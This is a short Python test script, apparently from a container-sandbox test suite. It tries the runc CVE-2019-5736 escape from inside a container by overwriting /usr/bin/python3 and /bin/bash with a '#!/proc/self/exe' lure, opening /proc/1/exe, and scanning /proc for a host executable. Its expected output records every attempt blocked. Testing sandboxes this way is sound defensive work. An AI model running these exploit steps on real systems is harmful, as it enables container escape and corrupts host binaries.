# attack = "runc, CVE-2019-5736: waits for a process of the runtime's and reaches for its executable, which is the host's"
# threats = [35]
# outcome = "OK"
# stdout = """
# replace python3: EACCES
# replace bash: EACCES
# /proc/1/exe: ENOENT
# no executable but the image's
# """
import os
import time

from attack import attempt, escaped

LURE = b"#!/proc/self/exe\n"


def replace(path):
    with open(path, "r+b") as file:
        file.write(LURE)


attempt("replace python3", replace, "/usr/bin/python3")
attempt("replace bash", replace, "/bin/bash")
attempt("/proc/1/exe", os.open, "/proc/1/exe", os.O_RDONLY)


def seen(path):
    """What tells one executable from another, on whichever mount of the image it is."""
    status = os.stat(path)
    return os.path.realpath(path), status.st_size, status.st_mtime_ns, status.st_mode


own = seen("/usr/bin/python3")
with open("lure", "wb") as file:
    file.write(LURE + b"import os; print(os.readlink('/proc/self/exe'))\n")
os.chmod("lure", 0o755)
end = time.monotonic() + 0.2
while time.monotonic() < end:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if seen(f"/proc/{pid}/exe") != own:
                escaped(f"the executable of {pid}: {os.readlink(f'/proc/{pid}/exe')}")
        except OSError:  # it ended meanwhile
            pass
print("no executable but the image's", flush=True)
